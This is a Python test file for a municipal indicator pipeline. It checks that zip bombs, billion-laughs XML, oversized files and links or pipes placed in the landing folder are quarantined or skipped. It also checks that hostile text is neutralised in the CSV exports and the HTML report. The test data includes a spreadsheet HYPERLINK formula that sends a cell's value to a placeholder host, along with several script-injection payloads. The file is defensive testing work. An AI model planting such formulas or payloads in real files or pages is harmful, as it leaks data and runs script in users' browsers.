"""Hostile and accidental file drops (issue 12), generated at test time: first each against the real
reader, then together through the whole pipeline, where every refused file goes to quarantine,
entries that are not regular files are skipped and reported, and nothing is published."""

from __future__ import annotations

import csv
import os
import shutil
import sys
import time
from html.parser import HTMLParser
from pathlib import Path

import duckdb
import pytest
from browser import chromium_or_skip, run_chromium
from faultenv import AS_OF
from faultkit import BUNDLED, edit_snapshot_value, sha256
from hostilekit import (
    billion_laughs,
    csv_of_bytes,
    csv_rows,
    fifo,
    land_rows,
    lying_zip,
    rows_xlsx,
    zip_bomb,
)

from indicator_pipeline.catalog import load_plan
from indicator_pipeline.catalog.filedrop_formats import FORMATS
from indicator_pipeline.filedrop import FileRejected, read_drop
from indicator_pipeline.run import RefreshFailed, refresh
from indicator_pipeline.settings import Settings

LIMITS = FORMATS["sellable_land"].limits
PLAN = Path(__file__).resolve().parents[2] / "indicator_pipeline" / "catalog" / "plans" / "helsingborg_ks_2025.toml"
MiB = 1024 * 1024
# An XLSX sheet that breaks a few thousand rows after the first row beyond max_rows (the XML parser
# reads ahead in blocks of some KB): a reader that read the whole sheet before counting would fail on
# the broken XML instead of on the row limit.
BROKEN_TAIL = b"<row r=<<< not XML"
PAST_THE_LIMIT = 5000

# name: (write the file into a folder, fragments the FileRejected message must contain)
READER_FAULTS = {
    "CSV larger than max_bytes": (
        lambda d: csv_of_bytes(d / "sellable_land_big.csv", LIMITS.max_bytes),
        ["sellable_land_big.csv: the file is", f"more than the {LIMITS.max_bytes} allowed (max_bytes)"],
    ),
    "CSV with more data rows than max_rows": (
        lambda d: csv_rows(d / "sellable_land_long.csv", LIMITS.max_rows + 1),
        [f"row {LIMITS.max_rows + 2}", f"more than {LIMITS.max_rows} data rows (max_rows)"],
    ),
    "XLSX with more data rows than max_rows, read no further than the limit": (
        lambda d: rows_xlsx(d / "sellable_land_long.xlsx", land_rows(LIMITS.max_rows + PAST_THE_LIMIT), tail=BROKEN_TAIL),
        [f"row {LIMITS.max_rows + 2}", f"more than {LIMITS.max_rows} data rows (max_rows)"],
    ),
    "zip bomb refused by its ratio": (
        lambda d: zip_bomb(d / "sellable_land_bomb.xlsx", 32 * MiB),
        ["part 'xl/worksheets/sheet1.xml' inflates", "max_compression_ratio", "a zip bomb"],
    ),
    "zip bomb refused by its inflated size": (
        lambda d: zip_bomb(d / "sellable_land_bomb.xlsx", 2 * LIMITS.max_inflated_bytes),
        ["its parts inflate to", f"more than the {LIMITS.max_inflated_bytes} allowed (max_inflated_bytes)"],
    ),
    "zip directory declaring a small size for a large sheet": (
        lambda d: lying_zip(d / "sellable_land_lying.xlsx"),
        ["not a readable .xlsx workbook"],
    ),
    "XML entity expansion (billion laughs) in the sheet": (
        lambda d: billion_laughs(d / "sellable_land_laughs.xlsx"),
        ["not a readable .xlsx workbook", "ParseError", "amplification"],
    ),
    "a value beyond max_columns": (
        lambda d: _write(d / "sellable_land_wide.csv", "year;area;hectares\n2024;Vasatorp;1" + ";" * (LIMITS.max_columns - 2) + "x\n"),
        ["row 2, column CW: 'x' stands in column CW", f"beyond the {LIMITS.max_columns} columns a file may have (max_columns)"],
    ),
    "a cell larger than the CSV field limit": (
        lambda d: _write(d / "sellable_land_cell.csv", "year;area;hectares\n2024;" + "V" * 200_000 + ";1\n"),
        ["not readable as CSV", "field larger than field limit"],
    ),
}


def test_a_cell_larger_than_the_limit_is_refused_whatever_the_csv_module_allows(tmp_path):
    """The csv module's field limit is process-wide, and a library may raise it (frictionless sets it to
    2 GB when it reads a CSV, so this test once failed only after tests/test_datapackage.py in the same worker)."""
    write, fragments = READER_FAULTS["a cell larger than the CSV field limit"]
    path = write(tmp_path)
    before = csv.field_size_limit(sys.maxsize)
    try:
        with pytest.raises(FileRejected) as refused:
            read_drop(path)
    finally:
        csv.field_size_limit(before)
    assert all(fragment in str(refused.value) for fragment in fragments), str(refused.value)


def _write(path: Path, text: str) -> Path:
    path.write_text(text, encoding="utf-8")
    return path


@pytest.mark.parametrize("name", list(READER_FAULTS))
def test_the_reader_refuses_a_hostile_file_naming_the_file_and_the_limit(tmp_path, name):
    write, fragments = READER_FAULTS[name]
    path = write(tmp_path)
    with pytest.raises(FileRejected) as refused:
        read_drop(path)
    message = str(refused.value)
    assert message.startswith(path.name), message
    for fragment in fragments:
        assert fragment in message, f"{fragment!r} not in {message!r}"


def test_a_file_at_the_limits_is_read(tmp_path):
    """The limits are bounds, not a refusal of big files: max_rows rows in an XLSX load in full."""
    drop = read_drop(rows_xlsx(tmp_path / "sellable_land_full.xlsx", land_rows(LIMITS.max_rows)))
    assert drop.frame.height == LIMITS.max_rows


# --- through the pipeline --------------------------------------------------------------------------

# One refused file per kind in one landing folder: each kind's asset refuses its own, so one run
# exercises four rows. kind: (file name, write, fragment of the run's one-line failure)
PIPELINE_FAULTS = {
    "sellable_land": ("sellable_land_2026-12-01.xlsx", lambda p: zip_bomb(p, 32 * MiB), "max_compression_ratio"),
    "self_build_plots": ("self_build_plots_2026-12-01.csv", lambda p: csv_rows(p, LIMITS.max_rows + 1), "(max_rows)"),
    "safety_survey": ("safety_survey_2026-12-01.csv", lambda p: csv_of_bytes(p, LIMITS.max_bytes), "(max_bytes)"),
    "financial_statements": ("financial_statements_2026-12-01.xlsx", billion_laughs, "amplification"),
}
SECRET = "year;area;hectares\n2025;Hemligt område;999\n"


def _settings(warehouse: Path, landing: Path) -> Settings:
    return Settings(warehouse_path=warehouse, source_mode="replay", landing_dir=landing, as_of=AS_OF)


def _not_regular(landing: Path, elsewhere: Path) -> dict[str, Path]:
    """A symbolic link and a hard link to a file outside the landing folder, and a named pipe, all
    named like drops of the kinds they would replace."""
    elsewhere.mkdir()
    secret = elsewhere / "secret.csv"
    secret.write_text(SECRET, encoding="utf-8")
    (landing / "sellable_land_2026-12-09.csv").symlink_to(secret)
    os.link(secret, landing / "sellable_land_2026-12-08.csv")
    fifo(landing / "self_build_plots_2026-12-09.csv")
    return {"secret": secret}


def test_hostile_drops_are_quarantined_and_nothing_is_published(clean_env, warehouse, tmp_path):
    landing = tmp_path / "landing"
    landing.mkdir()
    for name, write, _ in PIPELINE_FAULTS.values():
        write(landing / name)
    _not_regular(landing, tmp_path / "elsewhere")
    before, archive_before = sha256(warehouse), sorted((warehouse.parent / "archive").rglob("*"))

    started = time.monotonic()
    with pytest.raises(RefreshFailed) as failed:
        refresh(_settings(warehouse, landing))
    print(f"four hostile drops refused by one refresh in {time.monotonic() - started:.1f} s")

    message = str(failed.value)
    assert "\n" not in message and "nothing was published" in message, message
    for kind, (name, _, fragment) in PIPELINE_FAULTS.items():
        assert f"filedrop_{kind}" in message and f"{name}" in message and fragment in message, (kind, message)
        quarantined = tmp_path / "quarantine" / name
        assert quarantined.is_file() and not (landing / name).exists()
        assert f"{name}" in (tmp_path / "quarantine" / f"{name}.reason.txt").read_text(encoding="utf-8")
    assert sha256(warehouse) == before
    assert sorted((warehouse.parent / "archive").rglob("*")) == archive_before
    # the entries that are not regular files are where they were, untouched
    assert (landing / "sellable_land_2026-12-09.csv").is_symlink()
    assert sorted(p.name for p in landing.iterdir()) == [
        "self_build_plots_2026-12-09.csv", "sellable_land_2026-12-08.csv", "sellable_land_2026-12-09.csv"]


def test_a_symlink_out_of_the_folder_is_ignored_and_reported(clean_env, warehouse, tmp_path, capfd):
    """Links and a named pipe named like drops: the run succeeds without reading, archiving or moving
    them (a pipe would block a reader forever); the log and the asset's metadata list them."""
    landing = tmp_path / "landing"
    landing.mkdir()
    secret = _not_regular(landing, tmp_path / "elsewhere")["secret"]
    clean_env.setenv("DAGSTER_HOME", str(tmp_path / "dagster_home"))
    (tmp_path / "dagster_home").mkdir()
    with duckdb.connect(str(warehouse), read_only=True) as con:
        land_before = con.sql("SELECT * FROM staging.filedrop_sellable_land ORDER BY ALL").fetchall()

    refresh(_settings(warehouse, landing), log_level="WARNING")

    with duckdb.connect(str(warehouse), read_only=True) as con:
        assert con.sql("SELECT * FROM staging.filedrop_sellable_land ORDER BY ALL").fetchall() == land_before
        assert con.execute("SELECT count(*) FROM raw.payload WHERE location LIKE '%2026-12-0%'").fetchall() == [(0,)]
    assert secret.read_text(encoding="utf-8") == SECRET and os.stat(secret).st_nlink == 2
    assert not (tmp_path / "quarantine").exists()
    log = capfd.readouterr().err
    assert f"sellable_land_2026-12-09.csv (a symbolic link to {secret})" in log
    assert "sellable_land_2026-12-08.csv (a hard link" in log
    assert "self_build_plots_2026-12-09.csv (a named pipe (FIFO))" in log

    from dagster import AssetKey, DagsterInstance

    with DagsterInstance.get() as instance:
        def skipped(asset: str) -> str:
            event = instance.get_latest_materialization_event(AssetKey(asset))
            return event.asset_materialization.metadata["skipped_entries"].value

        assert skipped("filedrop_sellable_land") == (
            f"sellable_land_2026-12-08.csv (a hard link: the same file has 2 names, possibly outside the landing folder); "
            f"sellable_land_2026-12-09.csv (a symbolic link to {secret})"
        )
        assert skipped("filedrop_self_build_plots") == "self_build_plots_2026-12-09.csv (a named pipe (FIFO))"
        assert skipped("filedrop_safety_survey") == ""
    shutil.rmtree(tmp_path / "dagster_home", ignore_errors=True)


# --- text from sources and files in the exports and the report -------------------------------------

FORMULA = '=HYPERLINK("http://example.invalid/?leak="&A1;"klicka")'
SCRIPT = '<script>document.title="pwned"</script>'
IN_TOML = SCRIPT.replace('"', '\\"')
HOSTILE_PLAN_TEXT = {  # (what the plan file says, what it says instead)
    'area = "Näringsliv och företagsklimat"\ntitle = "Företagens bedömning av stadens myndighetsutövning':
        f'area = "Näringsliv</p>{IN_TOML}"\ntitle = "{IN_TOML}Företagens bedömning av stadens myndighetsutövning',
    'motivation = "Ett bra företagsklimat': 'motivation = "<img src=x onerror=\\"document.title=\'pwned\'\\">Ett bra företagsklimat',
    'title = "Nöjd-Kund-Index (Insikt), företagsklimat totalt, gammal definition (sex områden)"':
        'title = "<svg onload=\\"document.title=\'pwned\'\\">NKI gammal definition"',
    '(-2024)"\nattribution = "Källa: Kolada (RKA), SKR Insikt"': f'(-2024)"\nattribution = "=1+1 {IN_TOML}"',
}


class Elements(HTMLParser):
    """The tags and attribute names of a page's elements (text is not looked at)."""

    def __init__(self, html: str):
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: set[str] = set()
        self.feed(html)

    def handle_starttag(self, tag, attrs):
        self.tags.add(tag)
        self.attributes |= {name for name, _ in attrs}


def test_hostile_text_is_neutralised_in_the_csv_exports_and_escaped_in_the_report(clean_env, warehouse, tmp_path):
    """A Kolada status that is a spreadsheet formula, and a plan file whose titles hold markup: the
    refresh publishes them as text, the CSV export cannot run the formula, and the scorecard (built by
    the same refresh) shows the markup as text; Chromium runs none of it."""
    snapshot = tmp_path / "snapshot"
    shutil.copytree(BUNDLED, snapshot)
    edit_snapshot_value(snapshot, "N00301", 2024, FORMULA, "2026-11-20T03:00:00+00:00", field="status")
    plan = tmp_path / "plan.toml"
    text = PLAN.read_text(encoding="utf-8")
    for original, hostile in HOSTILE_PLAN_TEXT.items():
        assert text.count(original) == 1, original
        text = text.replace(original, hostile)
    plan.write_text(text, encoding="utf-8")

    refresh(Settings(warehouse_path=warehouse, source_mode="replay", snapshot_dir=snapshot, plan_path=plan, as_of=AS_OF))

    exports = warehouse.parent / "exports"
    vs_target = (exports / "indicator_vs_target.csv").read_bytes().decode("utf-8-sig")
    assert '"\'' + FORMULA.replace('"', '""') + '"' in vs_target  # quoted, doubled quotes, a ' in front
    assert ';"' + FORMULA.replace('"', '""') not in vs_target
    goal_status = (exports / "goal_status.csv").read_bytes().decode("utf-8-sig")
    assert '"=' not in goal_status and '"+' not in goal_status and '"@' not in goal_status

    page = warehouse.parent / "report" / f"{load_plan(plan).id}.html"  # the plan's page of the scorecard
    html = page.read_text(encoding="utf-8")
    assert "<script" not in html and "<img" not in html and "<svg onload" not in html
    assert "&lt;script&gt;document.title=&#34;pwned&#34;&lt;/script&gt;" in html  # shown, as text (Jinja writes " as &#34;)
    assert "&lt;svg onload=" in html  # the context chart's legend (the chart template) escapes it too

    chromium = chromium_or_skip()
    done = run_chromium(chromium, tmp_path / "profile", "--dump-dom", page.as_uri())
    assert done.returncode == 0, done.stderr[-2000:]
    dom = Elements(done.stdout)
    assert not {"script", "img"} & dom.tags
    assert not [name for name in dom.attributes if name.startswith("on")]
    assert "pwned" not in done.stdout.split("<title>", 1)[1].split("</title>", 1)[0]
    assert SCRIPT.replace("<", "&lt;").replace(">", "&gt;") in done.stdout
